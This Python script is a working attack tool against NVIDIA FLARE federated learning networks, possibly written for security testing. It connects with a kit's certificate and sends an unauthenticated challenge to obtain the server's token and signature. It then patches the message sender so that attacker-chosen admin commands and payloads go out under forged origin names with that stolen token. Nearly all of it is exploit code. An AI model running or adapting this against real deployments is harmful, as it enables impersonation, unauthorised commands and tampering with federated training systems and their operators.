"""An attacker on FLARE's network: KIT ENDPOINT HOST PORT ORDERS ANSWERS.

It connects with the certificate of a kit under an endpoint name of its choice, learns the server's
token from the reply to an unauthenticated challenge, and sends what the orders (a JSON list of
{"origin", "to", "channel", "topic", "payload" (hexadecimal) or "body"}) say, each with that token
and in the name of "origin". What comes back is written down.
"""

import json
import os
import sys
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path

from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic, IdentityChallengeKey
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey as Key
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.private.admin_defs import Message as AdminMessage
from nvflare.private.defs import CellMessageHeaderKeys as Token
from nvflare.private.fed.utils.fed_utils import fobs_initialize, register_ext_decomposers

WAIT = 4.0
_FORGED = "forged origin"


def connected(kit, endpoint, host, port):
    who = "server" if (kit / "startup" / "server.key").exists() else "client"
    files = {"ca_cert": "rootCA.pem", f"{who}_cert": f"{who}.crt", f"{who}_key": f"{who}.key"}
    credentials = {name: str(kit / "startup" / file) for name, file in files.items()}
    url = f"https://{host}:{port}" if endpoint.startswith("server.") else f"http://{host}:{port}"
    cell = Cell(
        fqcn=endpoint,
        root_url=url,
        secure=True,
        credentials=credentials | {"connection_security": "mtls"},
        create_internal_listener=False,
        parent_url=url if endpoint.startswith("server.") else None,
        parent_resources={"connection_security": "mtls"},
        auth_identity_map={"server": host},
    )
    cell.start()
    return cell


def forge(cell, token):
    """Messages leave in the name of whom the orders say, with the server's token."""
    communicator = cell.core_cell.communicator
    send = communicator.send

    def forged(endpoint, app_id, message):
        origin = message.get_header(_FORGED)
        if origin:
            message.set_header(Key.ORIGIN, origin)
            message.headers.update(token)
        return send(endpoint, app_id, message)

    communicator.send = forged


def challenge(cell):
    """The headers with which the server's replies go out."""
    asked = {IdentityChallengeKey.COMMON_NAME: "x", IdentityChallengeKey.NONCE: str(uuid.uuid4())}
    reply = cell.core_cell.send_request(
        channel=CellChannel.SERVER_MAIN,
        topic=CellChannelTopic.Challenge,
        target="server",
        request=new_cell_message(asked, None),
        timeout=WAIT,
        optional=True,
    )
    names = (Token.CLIENT_NAME, Token.TOKEN, Token.TOKEN_SIGNATURE)
    return {name: reply.get_header(name) for name in names}


def carry_out(cell, order):
    headers = {_FORGED: order["origin"], **order.get("headers", {})}
    if "body" in order:
        payload = AdminMessage(topic=order["topic"], body=order["body"])
        for name, value in order.get("admin", {}).items():
            payload.set_header(name, value)
    elif "fields" in order:
        payload = order["fields"]
    else:
        payload = bytes.fromhex(order["payload"])
    # streamed where FLARE would stream it, and past the stream
    way = cell if order.get("stream", True) else cell.core_cell
    reply = way.send_request(
        channel=order["channel"],
        topic=order["topic"],
        target=order["to"],
        request=new_cell_message(headers, payload),
        timeout=order.get("wait", WAIT),
        optional=True,
    )
    content = reply.payload
    if isinstance(content, bytes | bytearray | memoryview):
        content = bytes(content).hex()
    code = reply.get_header(Key.RETURN_CODE)
    return {"code": str(code), "content": str(getattr(content, "body", content))}


def main(kit, endpoint, host, port, orders, answers):
    fobs_initialize()
    register_ext_decomposers(None)
    cell = connected(Path(kit), endpoint, host, port)
    time.sleep(1.0)
    token = challenge(cell)
    forge(cell, token)
    with ThreadPoolExecutor(16) as pool:
        found = list(pool.map(partial(carry_out, cell), json.loads(Path(orders).read_text())))
    scratch = Path(answers).with_suffix(".tmp")
    scratch.write_text(json.dumps({"token": {k: str(v) for k, v in token.items()}, "found": found}))
    scratch.replace(answers)
    os._exit(0)  # FLARE's threads stay


if __name__ == "__main__":
    main(*sys.argv[1:])
